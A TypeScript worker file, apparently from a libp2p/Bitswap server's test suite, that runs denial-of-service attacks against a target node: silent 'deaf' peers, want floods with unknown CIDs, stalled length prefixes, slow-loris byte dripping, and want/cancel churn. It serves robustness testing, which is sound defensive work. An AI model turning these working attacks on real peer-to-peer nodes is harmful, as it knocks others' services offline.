import { parentPort, workerData } from 'node:worker_threads'
import { multiaddr } from '@multiformats/multiaddr'
import { CID } from 'multiformats/cid'
import { varint } from '../util/varint.js'
import { deafNode, inBatches, openBitswap, unknownCids, wantFrame, write } from './attackers.js'
import type { AttackSpec } from './attack.js'
import type { Libp2p, Stream } from '@libp2p/interface'

/*
 * Runs one attack in a worker thread, so the attackers' own work (hundreds of handshakes, encoding wants) runs on
 * another core, as it would on the attackers' machines, and does not slow the server's event loop in the test.
 */

const spec = workerData as AttackSpec
const target = spec.addresses.map(a => multiaddr(a))
const nodes: Libp2p[] = []
let stopping = false
const post = (event: string, detail: Record<string, number> = {}): void => { parentPort?.postMessage({ event, ...detail }) }

parentPort?.on('message', (message: string) => {
  if (message !== 'stop') return
  stopping = true
  // Gone abruptly, as an attacker's machine goes: a graceful close would wait on streams the server paused.
  for (const node of nodes) for (const connection of node.getConnections()) connection.abort(new Error('attacker gone'))
  void Promise.allSettled(nodes.map(async node => node.stop())).then(() => { post('stopped') })
})

async function node (): Promise<Libp2p> {
  const created = await deafNode()
  nodes.push(created)
  return created
}

async function streams (peers: number, perPeer: number): Promise<Stream[]> {
  const out: Stream[] = []
  for (let p = 0; p < peers; p++) {
    const n = await node()
    for (let i = 0; i < perPeer; i++) out.push(await openBitswap(n, target))
  }
  return out
}

async function run (): Promise<void> {
  switch (spec.kind) {
    case 'deaf': {
      const cids = (spec.cids ?? []).map(c => CID.parse(c))
      await inBatches(Array.from({ length: spec.count ?? 1 }), 10, async () => {
        await write(await openBitswap(await node(), target), wantFrame(cids))
      })
      post('ready')
      return
    }
    case 'flood-and-leave': {
      let refused = 0
      const cids = unknownCids(4 * 8192, 17)
      const frames = [0, 1, 2, 3].map(i => wantFrame(cids.slice(i * 8192, (i + 1) * 8192)))
      post('ready')
      const started = performance.now()
      await inBatches(Array.from({ length: spec.count ?? 200 }), 10, async (_, index) => {
        if (spec.pace != null) {
          const due = started + index * 1000 / spec.pace
          await new Promise(resolve => setTimeout(resolve, Math.max(0, due - performance.now())))
        }
        const n = await deafNode()
        try {
          const stream = await openBitswap(n, target)
          for (const bytes of frames) await write(stream, bytes)
        } catch {
          // Turned away (a server that limits connections): counted, and the attack goes on.
          refused++
        }
        // Gone while its messages may still wait to be applied.
        await n.stop()
      })
      post('done', { refused })
      return
    }
    case 'stalled-prefixes': {
      for (const stream of await streams(4, (spec.count ?? 200) / 4)) await write(stream, varint(4 * 1024 * 1024))
      post('ready')
      return
    }
    case 'slow-loris': {
      const all = await streams(2, (spec.count ?? 64) / 2)
      // A 1000-byte message, then one byte every 500 ms: it would take over 8 minutes.
      for (const stream of all) await write(stream, varint(1000))
      post('ready')
      const drip = setInterval(() => {
        for (const stream of all) if (stream.status === 'open') stream.send(Uint8Array.of(1))
        if (all.every(s => s.status !== 'open')) {
          clearInterval(drip)
          post('done')
        }
      }, 500)
      return
    }
    case 'million': {
      const stream = await openBitswap(await node(), target)
      post('ready')
      let sent = 0
      for (let i = 0; sent < (spec.count ?? 1_000_000) && !stopping; i++) {
        const count = Math.min(8192, (spec.count ?? 1_000_000) - sent)
        await write(stream, wantFrame(unknownCids(count, 1000 + i)))
        sent += count
      }
      post('done', { sent })
      return
    }
    case 'want-cancel': {
      const cid = CID.parse((spec.cids ?? [])[0])
      const want = wantFrame([cid])
      const cancel = wantFrame([cid], { cancel: true })
      const all = await streams(spec.count ?? 4, 1)
      post('ready')
      let rounds = 0
      await Promise.all(all.map(async stream => {
        while (!stopping && stream.status === 'open') {
          await write(stream, want)
          await write(stream, cancel)
          rounds++
          await new Promise(resolve => setTimeout(resolve, 2))
        }
      }))
      post('done', { rounds })
    }
  }
}

run().catch(err => { post('error', {}); console.error('attack failed:', err) })
